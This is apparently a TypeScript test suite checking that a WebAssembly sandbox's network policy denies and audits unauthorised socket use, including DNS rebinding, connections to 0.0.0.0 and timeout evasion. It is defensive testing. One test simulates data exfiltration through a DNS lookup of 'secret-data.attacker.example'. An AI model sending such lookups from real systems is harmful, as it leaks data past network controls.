import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { WorkerPool } from '../../../src/node/index.js';
import { runningBrokers } from '../../../src/node/network/broker-transport.js';
import { accesses, runAudited } from '../../helpers/audited-run.js';
import { guest, lines } from '../../helpers/guests.js';
import { startLoopbackServers, type LoopbackServers } from '../../helpers/loopback-servers.js';

/*
 * wasi:sockets against real servers on loopback, through netprobe (our C
 * guest calling wasi:sockets directly): each connection, datagram and
 * lookup passes the policy with the address actually used, denials reach
 * the guest as `access-denied`, and every decision is an audit event.
 */

let servers: LoopbackServers;
beforeAll(async () => {
  servers = await startLoopbackServers();
});
afterAll(() => servers.close());

const netprobe = (allow: string[], args: (string | number)[], timeout = '20s') =>
  runAudited({ network: { allow }, limits: { timeout } }, { program: guest('netprobe.component.wasm'), args: args.map(String) });

describe('TCP', () => {
  it('attack: a guest connecting to a port it was not granted, on a host it was', async () => {
    const { result, audit } = await netprobe([`127.0.0.1:${servers.echo}`], ['tcp', '127.0.0.1', servers.unused, 'hi']);
    expect(lines(result)).toEqual(['connect: access-denied']);
    expect(result.denials).toEqual([
      {
        operation: 'tcp-connect',
        target: `127.0.0.1:${servers.unused}`,
        reason: 'network-denied',
        error: 'access-denied',
        detail: `no network.allow entry grants 127.0.0.1:${servers.unused}`,
      },
    ]);
    expect(accesses(audit)).toEqual([`denied tcp-connect 127.0.0.1:${servers.unused}`]);
  });

  it('connects to a granted address and port, and the allowed connection is audited with its grant', async () => {
    const { result, audit } = await netprobe([`127.0.0.1:${servers.echo}`], ['tcp', '127.0.0.1', servers.echo, 'hello']);
    expect(lines(result)).toEqual(['connect: ok', 'send: ok', 'reply: echo:hello', 'read: closed']);
    expect(result.denials).toEqual([]);
    expect(audit.find((event) => event.event === 'access.allowed')).toMatchObject({
      operation: 'tcp-connect',
      target: `127.0.0.1:${servers.echo}`,
      grant: `127.0.0.1:${servers.echo}`,
    });
  });

  it('attack: a granted name resolving to loopback (DNS rebinding) is refused unless the address is granted', async () => {
    const name = await netprobe([`localhost:${servers.echo}`], ['tcp', 'localhost', servers.echo, 'hello']);
    expect(lines(name.result)).toEqual(['lookup: ok 127.0.0.1', 'connect: access-denied']);
    expect(name.result.denials).toEqual([
      expect.objectContaining({
        operation: 'tcp-connect',
        target: `localhost:${servers.echo} (127.0.0.1)`,
        detail: expect.stringContaining('loopback'),
      }),
    ]);
    expect(accesses(name.audit)).toEqual(['allowed ip-name-lookup localhost', `denied tcp-connect localhost:${servers.echo} (127.0.0.1)`]);

    const address = await netprobe([`localhost:${servers.echo}`, `127.0.0.1:${servers.echo}`], ['tcp', 'localhost', servers.echo, 'hello']);
    expect(lines(address.result)).toContain('reply: echo:hello');
  });

  it('attack: a guest looking up a name no grant covers (data out through DNS queries)', async () => {
    const { result } = await netprobe(['api.example.com:443'], ['lookup', 'secret-data.attacker.example']);
    expect(lines(result)).toEqual(['lookup: access-denied']);
    expect(result.denials).toEqual([
      expect.objectContaining({ operation: 'ip-name-lookup', target: 'secret-data.attacker.example', error: 'access-denied' }),
    ]);
  });

  it('attack: a guest blocked reading a socket that never answers, to outlive its timeout', async () => {
    const started = performance.now();
    const { result, audit } = await netprobe([`127.0.0.1:${servers.silent}`], ['tcp', '127.0.0.1', servers.silent], '1s');
    expect(result).toMatchObject({ status: 'timeout', exitCode: 124 });
    expect(result.limit?.message).toMatch(/while waiting for the network/);
    expect(performance.now() - started).toBeLessThan(5000);
    expect(audit.some((event) => event.event === 'limit.exceeded')).toBe(true);
  });

  it('attack: a guest leaving connections open past its run (every socket and the broker end with it)', async () => {
    const before = (await servers.seen()).silent;
    await netprobe([`127.0.0.1:${servers.silent}`], ['tcp', '127.0.0.1', servers.silent], '500ms');
    // Every connection the server saw (this run's, and any earlier one) ends up closed.
    await vi.waitFor(async () => expect((await servers.seen()).silent).toEqual({ opened: before.opened + 1, closed: before.opened + 1 }), {
      timeout: 5000,
    });
    await vi.waitFor(() => expect(runningBrokers()).toBe(0), { timeout: 5000 });
  });
});

describe('UDP', () => {
  it('attack: a guest sending a datagram to a destination it was not granted', async () => {
    const { result, audit } = await netprobe([`127.0.0.1:${servers.echo}`], ['udp', '127.0.0.1', servers.udp, 'ping']);
    expect(lines(result)).toEqual(['send: access-denied']);
    expect(accesses(audit)).toEqual([`denied udp-send 127.0.0.1:${servers.udp}`]);
  });

  it('sends to a granted destination (binding an ephemeral port) and receives its reply', async () => {
    const { result, audit } = await netprobe([`127.0.0.1:${servers.udp}`], ['udp', '127.0.0.1', servers.udp, 'ping']);
    expect(lines(result)).toEqual(['send: ok', 'reply: re:ping']);
    expect(accesses(audit)).toEqual([`allowed udp-send 127.0.0.1:${servers.udp}`]);
  });
});

describe('every refused socket call is an access.denied event', () => {
  it('attack: connecting to 0.0.0.0 (which reaches the host) with a grant for its port: invalid-argument, recorded', async () => {
    const { result, audit } = await netprobe([`127.0.0.1:${servers.echo}`], ['tcp', '0.0.0.0', servers.echo, 'hi']);
    expect(lines(result)).toEqual(['connect: invalid-argument']);
    expect(result.denials).toEqual([
      expect.objectContaining({ operation: 'tcp-connect', target: `0.0.0.0:${servers.echo}`, error: 'invalid-argument' }),
    ]);
    expect(accesses(audit)).toEqual([`denied tcp-connect 0.0.0.0:${servers.echo}`]);
  });

  it('attack: a datagram to 0.0.0.0: invalid-argument, recorded', async () => {
    const { result, audit } = await netprobe([`127.0.0.1:${servers.udp}`], ['udp', '0.0.0.0', servers.udp, 'ping']);
    expect(lines(result)).toEqual(['send: invalid-argument']);
    expect(accesses(audit)).toEqual([`denied udp-send 0.0.0.0:${servers.udp}`]);
  });

  it('attack: looking up something that is no host name (data out through DNS): invalid-argument, recorded', async () => {
    const { result, audit } = await netprobe(['api.example.com:443'], ['lookup', 'secret data!']);
    expect(lines(result)).toEqual(['lookup: invalid-argument']);
    expect(accesses(audit)).toEqual(['denied ip-name-lookup secret data!']);
  });
});

describe('a run on a worker thread', () => {
  it('reaches a granted server, and its blocked socket still ends at the timeout', async () => {
    const pool = new WorkerPool({ size: 1 });
    try {
      const network = { allow: [`127.0.0.1:${servers.echo}`, `127.0.0.1:${servers.silent}`] };
      // The first run on a fresh worker compiles the component: on a busy machine that alone can take a second.
      const echoed = await pool.exec(
        { network, limits: { timeout: '60s' } },
        {
          program: guest('netprobe.component.wasm'),
          args: ['tcp', '127.0.0.1', String(servers.echo), 'pooled'],
        },
      ).result;
      expect(lines(echoed)).toContain('reply: echo:pooled');
      const blocked = await pool.exec(
        { network, limits: { timeout: '1s' } },
        { program: guest('netprobe.component.wasm'), args: ['tcp', '127.0.0.1', String(servers.silent)] },
      ).result;
      expect(blocked.status).toBe('timeout');
      expect(blocked.limit?.message).not.toMatch(/terminated/);
    } finally {
      await pool.close();
    }
  });
});
